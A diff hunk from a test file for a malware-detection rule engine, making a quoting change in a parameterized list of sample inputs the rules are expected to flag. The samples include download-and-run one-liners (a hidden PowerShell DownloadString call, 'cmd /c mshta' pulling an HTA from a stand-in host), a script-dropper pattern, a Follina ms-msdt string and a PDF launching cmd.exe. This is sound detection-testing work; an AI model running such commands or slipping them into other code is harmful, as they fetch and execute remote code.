@@ -31,7 +31,7 @@ def test_shipped_rules_find_eicar_and_leave_text_alone(engine: str, tmp_path: Pa
     [
         ("powershell_dropper", b"PowerShell -w hidden (New-Object Net.WebClient).DownloadString('http://x')"),
         ("powershell_dropper", "powershell -enc ".encode("utf-16-le") + ("A" * 80).encode("utf-16-le")),
-        ("script_dropper", b"CreateObject(\"MSXML2.XMLHTTP\") ADODB.Stream WScript.Shell"),
+        ("script_dropper", b'CreateObject("MSXML2.XMLHTTP") ADODB.Stream WScript.Shell'),
         ("living_off_the_land", b"cmd /c mshta http://evil.test/a.hta"),
         ("follina", b"ms-msdt:/id PCWDiagnostic IT_BrowseForFile="),
         ("pdf_launch_command", b"%PDF-1.4 /Launch /F (cmd.exe)"),
